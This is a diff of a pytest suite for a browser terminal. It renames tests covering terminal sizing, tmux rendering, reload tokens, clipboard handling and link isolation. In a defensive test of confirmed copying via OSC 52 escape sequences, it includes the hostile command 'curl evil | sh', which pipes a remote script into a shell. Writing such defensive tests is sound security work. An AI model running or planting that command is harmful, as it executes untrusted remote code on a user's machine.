@@ -77,7 +77,7 @@ async def site(house: House, proxy: Proxy, monkeypatch: pytest.MonkeyPatch) -> A
         yield made
 
 
-async def test_the_shell_is_as_large_as_the_page_from_its_first_byte_and_nothing_of_it_is_cut(site: Site) -> None:
+async def test_the_shell_has_the_size_of_the_page_from_its_first_byte_and_no_output_is_cut(site: Site) -> None:
     async def told_size() -> tuple[int, int]:
         """Return the columns and rows that the shell reports."""
         await window.does("echo size $(stty size)")
@@ -111,7 +111,7 @@ async def test_the_shell_is_as_large_as_the_page_from_its_first_byte_and_nothing
             assert min(box) >= 0, f"{size}: the last column or row is cut by {min(box)} px"
 
 
-async def test_a_size_that_changes_while_it_connects_is_not_lost(site: Site) -> None:
+async def test_a_change_of_size_during_the_connection_is_not_lost(site: Site) -> None:
     async def has_the_size() -> bool:
         await window.does("printf %.0sx {1..300}; echo; echo size $(stty size)")
         rows = await window.rows()
@@ -157,9 +157,7 @@ MESSES = {
 }
 
 
-async def test_the_screen_of_a_new_shell_is_what_tmux_shows_whatever_the_one_before_has_left(
-    site: Site, tmp_path: Path
-) -> None:
+async def test_a_new_shell_shows_the_screen_of_tmux_in_any_mode_of_the_former_shell(site: Site, tmp_path: Path) -> None:
     tmux = Tmux(tmp_path)
     async with site.open() as window:
         for what, mess in MESSES.items():
@@ -198,7 +196,7 @@ ANOTHER_SCREEN = """async () => {
 }"""
 
 
-async def test_what_a_new_shell_says_at_once_stands_on_the_empty_screen(site: Site) -> None:
+async def test_the_first_output_of_a_new_shell_is_on_an_empty_screen(site: Site) -> None:
     """Check that the prompt is not written before the screen is cleared, and so lost."""
     async with site.open() as window:
         await window.page.evaluate(ANOTHER_SCREEN)
@@ -230,7 +228,7 @@ async def is_as_in_tmux(site: Site, window: Window, tmux: Tmux, what: str) -> No
     await eventually(what, differs, None)
 
 
-async def test_a_takeover_is_told_beside_the_screen_and_the_prompt_is_on_an_empty_one(
+async def test_a_takeover_is_shown_beside_the_screen_and_the_prompt_is_on_an_empty_screen(
     site: Site, tmp_path: Path
 ) -> None:
     manager = site.manager
@@ -251,7 +249,7 @@ async def test_a_takeover_is_told_beside_the_screen_and_the_prompt_is_on_an_empt
         assert "old" not in "".join(await window.rows())
 
 
-async def test_the_width_of_a_letter_is_the_same_here_and_in_the_shell(site: Site, tmp_path: Path) -> None:
+async def test_a_letter_has_the_same_width_on_the_page_and_in_the_shell(site: Site, tmp_path: Path) -> None:
     async with site.open() as window:
         await window.does("printf '🎉🚀x\\n漢字x\\n👍🏽\\né́x\\n🫠x\\n'")
         await is_as_in_tmux(site, window, Tmux(tmp_path), "letters")
@@ -282,7 +280,7 @@ async def test_the_page_has_the_name_of_the_rental_and_the_id_as_a_hint(site: Si
 # Reloads
 
 
-async def test_a_reload_keeps_the_terminal_without_a_token_and_a_new_tab_has_none(site: Site) -> None:
+async def test_a_reload_keeps_the_terminal_without_a_token_and_a_new_tab_has_no_terminal(site: Site) -> None:
     async with site.open() as window:
         await window.page.reload()
         await window.is_connected()
@@ -303,7 +301,7 @@ async def test_a_reload_keeps_the_terminal_without_a_token_and_a_new_tab_has_non
         assert await window.page.evaluate("sessionStorage.length") == 0
 
 
-async def test_a_reload_after_the_right_has_ended_asks_again(site: Site) -> None:
+async def test_a_reload_after_the_end_of_its_permission_requests_a_token_again(site: Site) -> None:
     async with site.open() as window:
         await window.page.goto("about:blank")
         site.manager.manager.terminals.resumes._kept.clear()
@@ -350,7 +348,7 @@ async def clipboard(window: Window) -> str:
 MAY_READ = {"permissions": ["clipboard-read", "clipboard-write"]}
 
 
-async def test_what_is_selected_is_copied_by_ctrl_shift_c_and_pasted_by_ctrl_shift_v(site: Site) -> None:
+async def test_ctrl_shift_c_copies_the_selection_and_ctrl_shift_v_pastes(site: Site) -> None:
     async with site.open(**MAY_READ) as window:
         await window.runs("clear; echo 'sele''cted'", "selected")
         await window.page.locator(".xterm-rows > div", has_text="selected").first.dblclick(position={"x": 20, "y": 8})
@@ -367,7 +365,7 @@ def asks_to_copy(text: bytes) -> str:
     return f"printf '\\033]52;c;{base64.b64encode(text).decode()}\\007'"
 
 
-async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> None:
+async def test_a_program_copies_only_text_that_the_user_saw_and_confirmed(site: Site) -> None:
     async with site.open(**MAY_READ) as window:
         bar, page = window.page.locator("#copying"), window.page
         await page.evaluate("navigator.clipboard.writeText('mine')")
@@ -394,7 +392,7 @@ async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> No
         assert await clipboard(window) == "curl evil | sh\n"
 
 
-async def test_the_copy_button_takes_no_click_in_the_moment_in_which_its_text_comes(site: Site) -> None:
+async def test_the_copy_button_ignores_clicks_just_after_its_text_appeared(site: Site) -> None:
     async with site.open() as window:
         await window.page.evaluate(
             """new MutationObserver(() => { window.seen ??= document.querySelector("#copy").disabled; })
@@ -405,7 +403,7 @@ async def test_the_copy_button_takes_no_click_in_the_moment_in_which_its_text_co
         assert await window.page.evaluate("window.seen") is True
 
 
-async def test_a_link_opens_a_page_that_knows_nothing_of_this_one_and_only_over_http(site: Site) -> None:
+async def test_a_link_opens_only_http_pages_and_gives_them_no_opener_or_referrer(site: Site) -> None:
     target = f"{site.proxy.url}/.well-known/proxy"
     async with site.open() as window:
         page = window.page
